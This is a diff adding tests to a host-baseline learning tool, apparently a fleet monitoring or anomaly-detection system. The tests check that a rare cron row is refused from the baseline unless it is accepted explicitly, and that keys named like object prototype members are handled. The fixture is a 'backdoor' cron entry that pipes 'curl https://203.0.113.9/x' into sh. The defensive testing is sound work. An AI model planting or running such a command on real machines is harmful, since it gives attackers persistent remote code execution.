@@ -405,3 +405,64 @@ test('a query of a foreign pack is learned with the columns of its rows', () => 
     own: { columns: ['kind', 'name'], required: [['y', 'x']], optional: [] }
   })
 })
+
+describe('learning what is new', () => {
+  const backdoor = ['/etc/cron.d/x', 'curl https://203.0.113.9/x | sh']
+  const added = (many: number) =>
+    fleet(40, (index, rows) => {
+      if (index < many) rows.cron?.push({ path: backdoor[0]!, command: backdoor[1]! })
+      if (index === 1) rows.sessions?.push({ user: 'bob' })
+    })
+
+  test('does not learn in silence a row of an ordinary table that one or few hosts have', async () => {
+    const { baseline: previous } = await learned(fleet(40))
+    for (const many of [1, 6]) {
+      const { baseline, refused } = await learned(added(many), { previous })
+      expect(JSON.stringify(baseline)).not.toContain('203.0.113.9')
+      expect(refused).toContainEqual(
+        expect.objectContaining({ query: 'cron', row: { path: backdoor[0], command: backdoor[1] } })
+      )
+      expect(JSON.stringify(baseline.queries.sessions)).toContain('bob')
+    }
+  })
+
+  test('learns it if it is asked to, if it is on many hosts, and if the baseline knows it already', async () => {
+    const { baseline: previous } = await learned(fleet(40))
+    const asked = await learned(added(1), { previous, acceptRare: true })
+    expect(asked.baseline.queries.cron?.optional).toContainEqual(backdoor)
+    const common = await learned(added(25), { previous })
+    expect(common.baseline.queries.cron?.optional).toContainEqual(backdoor)
+    const known = await learned(added(1), { previous: asked.baseline })
+    expect(known.baseline.queries.cron?.optional).toContainEqual(backdoor)
+  })
+})
+
+test('queries, roles and columns may be called constructor or toString', async () => {
+  const queries = ['constructor', 'toString', 'valueOf'].map(name => query(name, ['constructor', 'name']))
+  const hosts = fleet(5).map(one => ({
+    ...one,
+    queries: Object.fromEntries(
+      queries.map(({ name }) => [
+        name,
+        {
+          status: 'ok' as const,
+          detail: null,
+          rows: [Object.assign(Object.create(null), { name: 'x' }) as Row]
+        }
+      ])
+    )
+  }))
+  const options = { name: 'web', packs: { constructor: 'x' }, cleanHosts: [], acceptRare: false }
+  const learn = (previous: Baseline | null) =>
+    learnFromFleet({ ...options, previous }, { ...question(), queries }, async function* () {
+      yield* hosts
+    })
+  const older = await learned(fleet(5))
+  const { baseline, changes } = await learn({ ...older.baseline, roles: { toString: { queries: {} } } })
+  expect(changes.queries.map(({ query }) => query)).toEqual(
+    expect.arrayContaining(['constructor', 'toString'])
+  )
+  expect(JSON.stringify(baseline)).toContain(
+    '"constructor":{"columns":["constructor","name"],"required":[["","x"]]'
+  )
+})
